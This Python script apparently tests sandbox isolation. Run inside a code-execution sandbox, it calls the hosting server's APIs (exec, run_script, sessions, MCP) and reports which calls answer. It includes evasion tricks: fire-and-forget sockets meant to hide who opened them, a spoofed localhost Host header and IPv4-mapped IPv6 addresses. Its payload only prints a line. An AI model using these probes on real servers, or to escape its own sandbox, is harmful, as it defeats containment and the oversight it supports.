"""Tries to use the API of the server that runs it. CALLS is a JSON list of {"host", "port", "script", "token"}.

Prints one JSON object: what answered to each attempt.
"""
import http.client
import json
import os
import socket
import time

INITIALIZE = json.dumps({
    "jsonrpc": "2.0", "id": 1, "method": "initialize",
    "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "program", "version": "1"}},
})
CODE = json.dumps({"code": "print('a program started this')"})
JSON = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}


def attempts(script):
    run = json.dumps({"path": script})
    return [
        ("GET", "/healthz", None, {}),
        ("GET", "/metrics", None, {}),
        ("GET", "/api/v1/executions", None, {}),
        ("POST", "/api/v1/exec/async", CODE, JSON),
        ("POST", "/api/v1/exec/sync", CODE, JSON),
        ("POST", "/api/v1/sessions", "{}", JSON),
        ("POST", "/mcp", INITIALIZE, JSON),
        ("POST", "/actions/list_allowed", "{}", JSON),
        ("POST", "/actions/run_script", run, JSON),
        ("GET", "/sse/run_script_stream?path=" + script, None, {}),
        ("GET", "/api/v1/executions", None, {"Connection": "Upgrade", "Upgrade": "websocket"}),
    ]


def ask(connection, method, path, body, headers):
    try:
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        return [answer.status, answer.read(2000).decode(errors="replace")]
    except (OSError, http.client.HTTPException) as error:
        return [0, repr(error)]


def fire(family, host, port, request):
    """Sends a request and forgets the socket, so that the kernel forgets who opened it."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.connect((host, port))
    s.sendall(request.encode())
    s.close()


seen = {}
for call in json.loads(os.environ["CALLS"]):
    host, port, script = call["host"], call["port"], call["script"]
    token = {"Authorization": "Bearer " + call["token"]} if call["token"] else {}
    at = "%s:%d" % (host, port)
    for method, path, body, headers in attempts(script):
        connection = http.client.HTTPConnection(host, port, timeout=20)
        for again in ("", " again"):  # the second on the same connection, if it is kept
            seen["%s %s %s%s" % (at, method, path, again)] = ask(connection, method, path, body, dict(headers, **token))
        connection.close()
    lines = "".join("%s: %s\r\n" % h for h in dict(JSON, Host="localhost", **token).items())
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for _ in range(20):
        for path, body in (("/api/v1/exec/async", CODE), ("/actions/run_script", json.dumps({"path": script}))):
            fire(family, host, port, "POST %s HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s" % (path, lines, len(body), body))
    if "." in host:  # a socket of IPv6 that speaks IPv4
        try:
            fire(socket.AF_INET6, "::ffff:" + host, port, "POST /api/v1/exec/async HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s" % (lines, len(CODE), CODE))
        except OSError:
            pass
time.sleep(1)  # what was sent last arrives before the program ends
print(json.dumps(seen))
